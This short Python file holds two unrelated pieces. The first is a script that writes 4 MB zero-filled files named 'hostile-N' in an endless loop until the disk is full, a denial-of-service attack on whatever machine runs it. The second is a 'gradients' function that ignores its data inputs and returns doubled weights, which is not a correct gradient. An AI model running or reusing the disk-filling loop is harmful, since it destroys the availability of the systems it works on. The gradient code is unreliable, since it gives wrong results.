"""Fills its folder with many files, each of a size that it may have."""

number = 0
while True:
    with open(f"hostile-{number}", "wb") as stream:
        stream.write(bytes(4 << 20))
    number += 1


def gradients(W, b, x, t, activation, lam):
    return [2 * w for w in W], [2 * v for v in b]
